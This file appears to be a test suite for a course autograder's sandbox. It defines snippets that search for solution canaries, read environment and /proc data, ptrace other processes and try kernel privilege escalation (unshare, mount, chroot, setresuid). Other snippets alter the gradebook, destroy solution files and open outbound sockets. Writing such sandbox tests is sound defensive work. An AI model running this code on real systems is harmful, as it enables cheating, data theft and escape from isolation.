"""Code that reads, writes or reaches what is not its own: solutions, gradebook, network, kernel."""

from tests.attacks.making import Attack, code

SEARCH = """
import os, re
found = set()
def look(path):
    try:
        handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        with open(handle, "rb") as file:
            found.update(re.findall(rb"canary-[0-9]+-[a-z]+", file.read(30_000_000)))
    except Exception:
        pass
def search(*tops):
    for top in tops:
        for parent, folders, names in os.walk(top):
            for name in names:
                look(os.path.join(parent, name))
"""
TELL = "\nprint('found:', sorted(found))\nraise ValueError(str(sorted(found)))"
WRITE = """
import os, site, sqlite3, sys, tempfile
def spoil(path):
    for act in (lambda: os.chmod(path, 0o777), lambda: open(path, "ab").write(b"spoilt"),
                lambda: os.unlink(path), lambda: os.rename(path, path + ".gone"),
                lambda: open(os.path.join(path, "spoilt"), "w").write("spoilt"),
                lambda: os.mkdir(os.path.join(path, "spoilt-folder"))):
        try:
            act()
        except Exception:
            pass
def spoil_all(*tops):
    for top in tops:
        spoil(top)
        for parent, folders, names in os.walk(top):
            for name in names + folders:
                spoil(os.path.join(parent, name))
"""
GRADEBOOK = """
import sqlite3
try:
    book = sqlite3.connect("COURSE_FOLDER/grading/gradebook.db", timeout=1)
    print(book.execute("select * from student").fetchall())
    book.execute("update grade set auto_score = 99")
    book.execute("update student set first_name = 'spoilt'")
    book.commit()
except Exception as error:
    print("no:", type(error).__name__)
"""
PARENT = """
import ctypes, os, signal
libc = ctypes.CDLL(None)
told = []
for pid in {os.getppid(), 1, 2, os.getpid() - 1, *range(1, 50)} - {os.getpid(), 0}:
    told.append(libc.ptrace(16, pid, 0, 0))
    for name in ("mem", "environ", "cmdline", "maps", "root", "cwd", "fd/1"):
        look(f"/proc/{pid}/{name}")
    search(f"/proc/{pid}/root/root", f"/proc/{pid}/root/COURSE_FOLDER")
"""
KERNEL = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def attempt_all():
    libc.unshare(0x10000000 | 0x00020000)
    libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"")
    libc.mount(b"proc", b"/proc", b"proc", 0, b"")
    libc.umount2(b"/proc", 2)
    libc.chroot(b"/proc/1/root")
    libc.mknod(b"/tmp/disk", 0o060666, 0xFE00)
    libc.setresuid(0, 0, 0)
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/self/uid_map",
                 "/proc/sys/user/max_user_namespaces", "/proc/self/oom_score_adj"):
        try:
            open(path, "w").write("0")
        except OSError:
            pass
attempt_all()
try:
    os.chroot("/proc/self/fd/0")
except OSError:
    pass
for up in range(12):
    look("../" * up + "COURSE_FOLDER/solutions/02_load_balancer.py")
look("/tmp/disk")
"""
NETWORK = """
import socket
reached = []
def reach(kind, where):
    try:
        with socket.socket(*kind) as out:
            out.settimeout(0.5)
            out.connect(where)
            out.send(b"attack")
            reached.append(where)
    except Exception as error:
        print(type(error).__name__)
reach((socket.AF_INET, socket.SOCK_STREAM), ("127.0.0.1", LISTENING_PORT))
reach((socket.AF_INET, socket.SOCK_DGRAM), ("127.0.0.1", LISTENING_PORT))
reach((socket.AF_INET, socket.SOCK_STREAM), ("192.0.2.1", 80))
reach((socket.AF_UNIX, socket.SOCK_STREAM), "\\0ABSTRACT_NAME")
for family in (16, 17, 38, 40):  # the kernel, raw packets, its ciphers, a virtual machine's host
    try:
        socket.socket(family, socket.SOCK_DGRAM).close()
        reached.append(family)
    except OSError as error:
        print(error)
assert not reached, f"reached: {reached}"
"""
LEAVE = """
import os, pathlib, sys, tempfile
found = []
tops = (os.path.expanduser("~"), ".", "/tmp", "/dev/shm", "/var/tmp", "/run",
            tempfile.gettempdir(), "COURSE_FOLDER/solutions", "COURSE_FOLDER/grading",
            "/proc/self/fd/2", "/home", "/")
for top in tops:
    try:
        os.chmod(top, 0o777)
        found += [name for name in os.listdir(top) if name == "left-for-the-next"]
    except OSError:
        pass
for top in tops:
    try:
        pathlib.Path(top, "left-for-the-next").write_text("left")
    except OSError:
        pass
try:
    os.write(2, b"left-for-the-next" * 1000)
    import matplotlib
    pathlib.Path(matplotlib.get_configdir(), "matplotlibrc").write_text("backend: evil")
except Exception:
    pass
print("found:", found)
"""
KEYRING = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
key = libc.syscall(248, b"user", b"left-for-the-next", b"left", 4, -4)
print("found:" if key > 0 else "no:", key)
"""
ATTACKS = [
    code(
        "reads solutions, gradebook, submissions",
        SEARCH
        + "search('COURSE_FOLDER', 'HOME_FOLDER/canary', '/tmp', '/etc', '/home', '/var', '.')"
        + TELL,
    ),
    code(
        "reads its own notebook",
        SEARCH + "search('.', '..', os.getcwd(), 'COURSE_FOLDER/grading/submitted')" + TELL,
    ),
    code(
        "reads the environment",
        SEARCH
        + "found |= {value for value in os.environ.values() if value.startswith('canary-')}\n"
        "look('/proc/self/environ')\nprint(dict(os.environ))" + TELL,
    ),
    code(
        "reads the processes of the grader",
        SEARCH + "search('/proc')" + TELL,
        stock=False,
    ),
    code("traces its parents", SEARCH + PARENT + TELL, stock=False),
    code("asks the kernel for more rights", SEARCH + KERNEL + TELL, stock=False),
    code("writes the gradebook", GRADEBOOK),
    code(
        "writes solutions and submissions",
        WRITE + "spoil_all('COURSE_FOLDER/solutions', 'COURSE_FOLDER/grading/submitted')",
    ),
    code(
        "writes the home folder and its own packages",
        WRITE + "spoil_all('HOME_FOLDER/canary')\n"
        "import course\n"
        "for path in (sys.prefix, *site.getsitepackages(), os.path.dirname(course.__file__)):\n"
        "    spoil(path)\n"
        "    spoil(os.path.join(path, '__init__.py'))",
        stock=False,
    ),
    code("opens a socket", NETWORK),
    code("leaves files for the next", LEAVE, stock=False),
    code("finds files of the one before", LEAVE, stock=False),
    code("leaves a key for the next", KEYRING, stock=False),
]
__all__ = ["ATTACKS", "Attack"]
